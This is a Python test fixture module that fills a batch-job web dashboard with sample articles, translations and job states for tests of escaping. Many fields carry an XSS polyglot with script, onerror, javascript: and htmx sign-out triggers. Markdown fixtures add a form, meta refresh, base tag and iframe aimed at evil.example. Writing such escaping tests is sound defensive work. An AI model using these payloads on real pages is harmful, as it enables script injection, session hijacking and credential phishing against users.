"""Batches in every state, with texts in several scripts and texts that attack the page, for tests that look at it."""

from collections.abc import Mapping
from dataclasses import dataclass, replace
from typing import Any, Final

import orjson

from jobs.lanes.protocol import WorkerRecord
from jobs.lanes.redis_queue import RedisQueue
from tests.support.gateway.front_desk import FrontDesk, chat_file, chat_line

HOSTILE: Final = (
    "\"'></textarea></title></script><script>pwned()</script><img src=x onerror=pwned()><svg onload=pwned()>"
    "<a href='javascript:pwned()' hx-get=/page/sign-out hx-trigger=load style=position:fixed>x</a>{{ 7*7 }}{% raw %}"
)
"""A text that would run a script in a page that does not escape it, wherever it stands there."""

MARKDOWN: Final = f"""## Why sunlight matters

Tomatoes want **six hours** of sun. See [the guide](https://example.org/guide), and not [this](javascript:pwned()).

#### A level was skipped here

- pots of 20 litres
- ~~no~~ holes in the bottom

| pot | litres |
|---|---|
| small | 10 |

![a tomato](https://tracker.example/pixel.png)

```html
<script>pwned()</script>
```

> A quote with `code`.

## מה הלאה

טקסט בעברית, מימין לשמאל.

<div onclick="pwned()" style="position:fixed" id="numbers" class="notice"><form action="https://evil.example"><input name="key">
<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">
<iframe src="https://evil.example"></iframe><object data="x"></object><style>body{{display:none}}</style>

{HOSTILE}
"""

ARTICLE: Final[Mapping[str, Any]] = {
    "title": "Growing tomatoes on a balcony",
    "slug": "growing-tomatoes",
    "meta_description": "What tomatoes on a balcony need: sun, water and a large pot.",
    "body_markdown": MARKDOWN,
    "word_count": 312,
    "faq": [{"question": "How much sun?", "answer": "Six hours."}],
}

WORKER: Final = WorkerRecord("host-7-worker-1", 4711, "host-7", "", 3, slots=8, device="NVIDIA L4", load_s=12.5)


@dataclass(frozen=True)
class Showcase:
    """The ids of the batches, as the page has them in its addresses."""

    articles: str
    translations: str
    running: str
    refused: str
    validating: str
    cancelled: str
    direct: str

    def addresses(self) -> Mapping[str, str]:
        """A page of each sort by a short name."""
        return {
            "batches": "/page/batches",
            "articles": f"/page/batches/{self.articles}",
            "running": f"/page/batches/{self.running}",
            "refused": f"/page/batches/{self.refused}",
            "validating": f"/page/batches/{self.validating}",
            "cancelled": f"/page/batches/{self.cancelled}",
            "direct": f"/page/batches/{self.direct}",
            "rows": f"/page/batches/{self.articles}/rows",
            "no-rows": f"/page/batches/{self.articles}/rows?code=nothing",
            "article": f"/page/batches/{self.articles}/rows/0",
            "review": f"/page/batches/{self.articles}/rows/1",
            "failed-row": f"/page/batches/{self.articles}/rows/2",
            "translation": f"/page/batches/{self.translations}/rows/0",
            "waiting-row": f"/page/batches/{self.running}/rows/2",
            "upload": "/page/upload",
            "usage": "/page/usage",
            "fleet": "/page/fleet",
            "nowhere": "/page/nowhere",
        }


def showcase(front_desk: FrontDesk, queue: RedisQueue) -> Showcase:
    """Make the batches of the tenant `shop`, and let a worker hold rows of one of them."""
    cancelled, cancelled_batch = front_desk.admitted(chat_file(3))
    front_desk.client.cancel(cancelled_batch)
    front_desk.client.publish(cancelled_batch)
    articles, translations, running = _articles(front_desk), _translations(front_desk), _running(front_desk, queue)
    front_desk.shelf.pass_s(60)
    refused = front_desk.submit(
        front_desk.upload(chat_file(1) + b"{not json\n" + orjson.dumps({HOSTILE: HOSTILE}) + b"\n")
    )
    front_desk.admit()
    front_desk.shelf.pass_s(60)
    validating = front_desk.submit(metadata={"season": HOSTILE})["id"]
    rows = [{"kind": "chat", "prompt": f"Row {n}"} for n in range(3)]
    direct = front_desk.client.enqueue(rows, model="stub", tenant="shop", name="by-hand")
    return Showcase(articles, translations, running, refused["id"], validating, cancelled, direct.id)


def _articles(front_desk: FrontDesk) -> str:
    """An article that is fit, one to review with findings at their places, one that failed, and one that the checks refused."""
    data = b"".join(
        orjson.dumps({"topic": topic, "custom_id": f"a{n} {HOSTILE}", "metadata": {"shelf": "garden", "n": HOSTILE}})
        + b"\n"
        for n, topic in enumerate(["Tomatoes", HOSTILE, "Beans", "Peas"])
    )
    submission, batch_id = front_desk.admitted(data, nightpress={"kind": "article"}, metadata={"season": HOSTILE})
    shelf = front_desk.shelf
    shelf._tenants = ("shop",)
    meta: dict[str, Any] = {"metadata": {"shelf": "garden", "n": HOSTILE}}
    findings = [
        {
            "code": "invented",
            "severity": "review",
            "message": f"six hours is not in the brief {HOSTILE}",
            "where": {"field": "body_markdown", "start": 40, "end": 52},
            "measured": HOSTILE,
            "tries": 1,
        },
        {
            "code": "seo_title",
            "severity": "note",
            "message": "short",
            "where": {"field": "title", "start": 0, "end": 7},
        },
    ]
    hostile = {name: HOSTILE if isinstance(value, str) else value for name, value in ARTICLE.items()}
    hostile |= {
        HOSTILE: HOSTILE,
        "nested": {HOSTILE: [HOSTILE]},
        "title": f"A title {HOSTILE}",
        "body_markdown": MARKDOWN,
    }
    lines = [
        shelf.completed(0, kind="article", output=ARTICLE, verdict="fit", custom_id=f"a0 {HOSTILE}", **meta),
        shelf.completed(
            1, kind="article", output=hostile, verdict="review", findings=findings, custom_id=HOSTILE, **meta
        ),
        _failure(front_desk, 2, {"code": "empty_output", "message": HOSTILE, "line": 3}),
        _failure(
            front_desk, 3, {"code": "wrong_language", "message": "it is in French"}, rejected=hostile, findings=findings
        ),
    ]
    shelf.write(batch_id, lines)
    front_desk.client.publish(batch_id)
    return submission


def _failure(front_desk: FrontDesk, row: int, error: Mapping[str, Any], **fields: Any) -> Any:
    made = front_desk.shelf.failed(row)
    return replace(made, kind="article", error=error, custom_id=HOSTILE, tenant="shop", **fields)


def _translations(front_desk: FrontDesk) -> str:
    row = {"text": "Hello {name}, you have <b>%d</b> new messages.", "source_language": "en", "target_language": "ar"}
    submission, batch_id = front_desk.admitted(orjson.dumps(row) + b"\n", nightpress={"kind": "translation"})
    output = {
        "source_language": "en",
        "target_language": "ar",
        "source": row["text"],
        "text": "مرحبا {name}، لديك <b>%d</b> رسائل جديدة.",
        "segments": [{"source": row["text"], "target": "مرحبا"}],
    }
    shelf = front_desk.shelf
    shelf._tenants = ("shop",)
    shelf.write(batch_id, [shelf.completed(0, kind="translation", output=output, verdict="fit", custom_id=None)])
    front_desk.client.publish(batch_id)
    return submission


def _running(front_desk: FrontDesk, queue: RedisQueue) -> str:
    """A batch of six rows, of which three have an outcome, and a worker that holds rows of its lane."""
    data = b"".join(chat_line(f"r{n}", HOSTILE if n == 4 else f"Name herb {n}.") for n in range(6))
    submission, batch_id = front_desk.admitted(data)
    shelf = front_desk.shelf
    shelf._tenants = ("shop",)
    shelf.pass_s(30)
    shelf.write(batch_id, [shelf.completed(0), shelf.completed(1, output={"text": HOSTILE}), shelf.failed(5)])
    lane = front_desk.client.settings.lane_of("stub")
    queue.claim(lane, "c-1", 2, 60_000, replace(WORKER, lane=lane))
    return submission
